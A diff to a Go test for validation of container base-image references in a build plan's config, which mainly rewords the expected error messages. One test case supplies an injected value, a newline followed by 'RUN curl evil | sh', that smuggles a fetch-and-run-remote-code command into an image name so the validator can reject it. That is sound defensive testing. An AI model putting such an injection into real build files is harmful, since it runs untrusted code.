@@ -25,8 +25,8 @@ func TestConfigValidate(t *testing.T) {
 			im.Runtime = "gcr.io/distroless/static-debian12@sha256:" + strings.Repeat("a", 64)
 		}, nil},
 		{"scratch", func(im *plan.Images) { im.Runtime = "scratch" }, nil},
-		{"empty", func(im *plan.Images) { im.Node = "" }, []string{`plan config: Images.Node is empty: set a base image such as "node:22-bookworm-slim"`}},
-		{"upper case", func(im *plan.Images) { im.Python = "Python:3" }, []string{`plan config: Images.Python "Python:3" is not an image reference`}},
+		{"empty", func(im *plan.Images) { im.Node = "" }, []string{`plan: Config.Images.Node is empty: set a base image such as "node:22-bookworm-slim"`}},
+		{"upper case", func(im *plan.Images) { im.Python = "Python:3" }, []string{`plan: Config.Images.Python "Python:3" is not an image reference`}},
 		{"a second line", func(im *plan.Images) { im.Shell = "debian\nRUN curl evil | sh" }, []string{`Images.Shell "debian\nRUN curl evil | sh" is not an image reference`}},
 		{"every problem at once", func(im *plan.Images) { im.Go, im.Static = "", "bad image" }, []string{"Images.Go is empty", `Images.Static "bad image"`}},
 	}
